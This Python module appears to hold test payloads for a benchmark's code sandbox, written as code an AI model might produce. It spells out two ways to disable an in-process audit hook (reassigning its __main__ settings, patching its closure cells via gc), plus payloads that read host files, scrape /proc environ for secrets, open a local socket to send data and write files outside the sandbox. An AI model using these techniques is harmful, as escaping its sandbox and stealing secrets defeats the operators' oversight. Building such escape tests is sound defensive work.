"""The code of the attacks on the code sandbox, as a model could write it (issue 20, point 1).

Each starts by switching off the in-process audit hook the sandbox used to rely on
(``services/benchmark/sandbox_runner.py`` before bubblewrap), two ways; where there is no such
hook, the preludes do nothing and the attack meets the kernel's isolation instead."""

from __future__ import annotations

# Four assignments to the hook's module-level settings: the runner is the __main__ module.
MAIN_REASSIGN = """
import __main__
__main__.DENIED_EVENTS = frozenset()
__main__.DENIED_PREFIXES = ("\\0",)
__main__.DENIED_MODULES = frozenset()
__main__._inside = lambda path, roots: True
"""

# The hook's closure cells, reached through the garbage collector: its deny() made harmless.
GC_CLOSURE_CELLS = """
import gc
for _obj in gc.get_objects():
    if callable(_obj) and getattr(_obj, "__name__", "") == "hook":
        for _name, _cell in zip(_obj.__code__.co_freevars, _obj.__closure__ or ()):
            if _name == "deny":
                _cell.cell_contents = lambda what: None
            if _name in ("readable", "writable"):
                _cell.cell_contents = ("/",)
"""


def read_host_file(path: str) -> str:
    """Read a file of the host and raise with its content (the detail carries it out)."""
    return f"raise Exception('LEAK:' + open({path!r}).read())\n"


def steal_environ(secret_name: str) -> str:
    """The parent's environment first, then every process's: raise with the secret."""
    return f"""
import os
_found = None
_pids = [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit()]
for _pid in _pids:
    try:
        _block = open(f'/proc/{{_pid}}/environ', 'rb').read().split(b'\\0')
    except OSError:
        continue
    for _entry in _block:
        if _entry.startswith(b'{secret_name}='):
            _found = _entry.split(b'=', 1)[1].decode()
            break
    if _found:
        break
raise Exception('LEAK:' + str(_found))
"""


def connect_and_send(port: int, payload: str) -> str:
    return f"""
import socket
_conn = socket.create_connection(('127.0.0.1', {port}), timeout=3)
_conn.sendall({payload.encode()!r})
_conn.close()
"""


def write_file(path: str) -> str:
    return f"""
import os
os.makedirs(os.path.dirname({path!r}), exist_ok=True)
with open({path!r}, 'w') as _out:
    _out.write('escaped')
"""
